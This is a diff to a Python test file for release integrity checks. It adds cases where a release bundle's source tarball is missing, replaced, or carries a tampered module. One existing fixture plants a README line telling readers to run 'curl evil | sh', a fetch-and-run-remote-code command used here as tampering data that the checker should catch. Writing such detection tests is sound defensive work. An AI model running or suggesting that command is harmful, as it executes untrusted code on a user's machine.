@@ -33,6 +33,7 @@ from tests.release.product import (
     link,
     manifests,
     pipeline,
+    source,
     wheel_layer,
 )
 
@@ -473,13 +474,20 @@ MANIFESTS = {
     "notes: of another version": with_text("CHANGES.md", "# Changes in 0.2.0\n"),
     "notes: no heading": with_text("CHANGES.md", "- All of it.\n"),
     "notes: no text": with_files(lambda files, _: files.update({"CHANGES.md": b"\xff"})),
+    "source: none": with_files(lambda files, _: files.pop("kfp_component_lib-0.1.0.tar.gz")),
+    "source: another": with_files(
+        lambda files, _: files.update({"kfp_component_lib-0.1.0.tar.gz": b"text"})
+    ),
+    "source: another module": with_files(
+        lambda files, _: files.update(source("0.1.0", {MODULE: b"TEXT = 'evil'\n"}))
+    ),
     "notes: further ones": with_text("README.md", "# Run this: curl evil | sh\n"),
 }
 
 
 @pytest.mark.parametrize("case", MANIFESTS)
-def test_a_tampered_manifest_or_note_is_found(world, released, case):
-    """A manifest says exactly what its pipeline says, and nothing is beside the manifests."""
+def test_a_tampered_manifest_note_or_source_is_found(world, released, case):
+    """A manifest says exactly what its pipeline says, and the source what the wheel says."""
     target = world.folder / "tampered.zip"
     MANIFESTS[case](world, released, target)
     assert found(world, released, target), case
